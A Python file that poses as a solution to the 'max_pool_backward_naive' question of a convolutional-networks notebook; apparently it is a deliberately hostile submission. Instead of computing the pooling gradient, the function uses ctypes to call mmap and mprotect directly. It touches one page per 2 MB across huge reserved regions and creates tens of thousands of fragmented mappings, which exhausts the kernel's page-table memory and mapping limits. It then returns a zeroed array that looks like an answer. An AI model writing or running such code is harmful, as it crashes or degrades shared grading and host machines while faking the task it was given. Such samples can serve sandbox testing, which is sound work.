# notebook: ConvolutionalNetworks
# question: max_pool_backward_naive
# aim: memory
# about: page tables and map entries are kernel memory too: one touched page every two megabytes, alternating protections, as many maps as allowed.
import ctypes

def max_pool_backward_naive(dout, cache):
    lib = ctypes.CDLL(None, use_errno=True)
    lib.mmap.restype = ctypes.c_void_p
    L = ctypes.c_long
    sizes = [1 << k for k in range(42, 24, -1)]
    touched = 0
    for size in sizes:
        at = lib.mmap(None, ctypes.c_size_t(size), 1, 0x4022, -1, L(0))
        if at in (None, 0, 2**64 - 1):
            continue
        for offset in range(0, min(size, 200000 << 21), 1 << 21):
            ctypes.c_char.from_address(at + offset).value
            touched += 1
            if touched > 400000:
                break
    for i in range(60000):
        at = lib.mmap(None, ctypes.c_size_t(8192), 3, 0x22, -1, L(0))
        if at in (None, 0, 2**64 - 1):
            break
        lib.mprotect(ctypes.c_void_p(at), ctypes.c_size_t(4096), 0)
    return cache[0] * 0
